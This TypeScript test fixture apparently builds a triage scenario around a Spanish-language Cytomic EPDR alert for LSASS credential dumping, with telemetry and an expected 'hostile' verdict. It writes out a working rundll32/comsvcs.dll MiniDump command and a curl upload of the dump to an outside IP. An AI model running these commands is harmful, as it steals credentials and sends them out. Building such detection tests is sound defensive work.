// A Spanish message about credentials taken from memory. People have confirmed it and are at work on it.
import { alert, by, confirmed, connected, hostile, processSeen, ran, situation } from '../../shorthand.ts'

export const spanishVolcadoOfTheMemory = situation(
  'spanish-volcado-of-the-memory',
  'vocabulary',
  'Stolen credentials told in Spanish',
  (setting) => {
    const felix = setting.person('felix.isaksson')
    const laptop = setting.laptopOf(felix.key)
    const at = setting.ago({ hours: 1, minutes: 16 })
    const command = 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\foto.bin full'
    const told = confirmed(setting, 'memory of the technician', {
      title: 'Credential dumping from the memory of LSASS',
      category: 'CredentialAccess',
      severity: 'High',
      techniques: ['T1003.001'],
      at,
      machine: laptop,
      user: felix,
      evidence: [
        processSeen(setting, 'rundll32.exe', 'C:\\Windows\\System32', command, 'winword.exe'),
        { kind: 'User', person: felix },
      ],
    })
    return {
      alerts: [
        alert(
          setting,
          at,
          'cytomic_epdr',
          'Robo de credenciales',
          [
            '<?xml version="1.0" encoding="utf-8"?>',
            '<Alerta producto="Cytomic EPDR" version="8.0.24">',
            '  <Tipo>Indicador de ataque (IOA)</Tipo>',
            '  <Nombre>Robo de credenciales: volcado de la memoria de LSASS</Nombre>',
            '  <Riesgo>Crítico</Riesgo>',
            `  <Fecha>${setting.iso(at)}</Fecha>`,
            `  <Equipo ip="${laptop.ip}" grupo="Todos\\Operaciones">${laptop.host.toUpperCase()}</Equipo>`,
            `  <UsuarioConectado>HAVSKOG\\${felix.account}</UsuarioConectado>`,
            `  <LineaComandos>${command}</LineaComandos>`,
            '  <ProcesoPadre>WINWORD.EXE</ProcesoPadre>',
            '  <Accion>Solo auditoría, no bloqueado</Accion>',
            '  <Ocurrencias>1</Ocurrencias>',
            '  <Mitre tactica="TA0006">T1003.001</Mitre>',
            '  <Recomendacion>Aísle el equipo de la red y cambie las contraseñas de los usuarios que lo han utilizado.</Recomendacion>',
            '</Alerta>',
          ].join('\n'),
        ),
      ],
      facts: {
        incidents: [told.incident],
        telemetry: [
          ran(laptop, at, 'rundll32.exe', command, { ...by(felix), InitiatingProcessFileName: 'winword.exe' }),
          ran(laptop, at + 180_000, 'curl.exe', 'curl.exe -T C:\\Users\\Public\\foto.bin https://45.138.16.203/u', {
            ...by(felix),
            InitiatingProcessFileName: 'cmd.exe',
          }),
          connected(laptop, at + 181_000, '45.138.16.203', {
            InitiatingProcessFileName: 'curl.exe',
            InitiatingProcessAccountName: felix.account,
          }),
        ],
      },
      expected: { ...hostile(laptop.host), severities: ['high', 'critical'] },
      because:
        'A document had the memory of the sign-in process written to a file, nothing stopped it, and three minutes later the file went to a command server. People have confirmed the incident and it is open.',
    }
  },
)
